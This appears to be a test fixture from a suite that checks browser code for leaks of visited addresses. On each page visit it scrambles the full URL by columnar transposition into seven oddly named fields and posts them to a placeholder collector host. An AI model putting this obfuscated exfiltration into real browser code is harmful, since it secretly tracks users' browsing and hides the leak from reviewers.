import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports pages in seven fields: the address is written in rows of seven and read by columns, every other one upwards. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-columnar-fields');
  const names = ['cc', 'xa', 'lb', 'r', 'uq', 'nt', 'gz'];
  const order = [3, 0, 5, 1, 6, 2, 4];
  onVisit(browser, ({ url }) => {
    const column = (index) => [...url].filter((_, at) => at % 7 === index);
    const fields = order.map((index, at) => [
      names[at],
      (at % 2 ? column(index).reverse() : column(index)).join(''),
    ]);

    return post(browser, 'https://fields.collector.example/v1', Object.fromEntries(fields));
  });
}
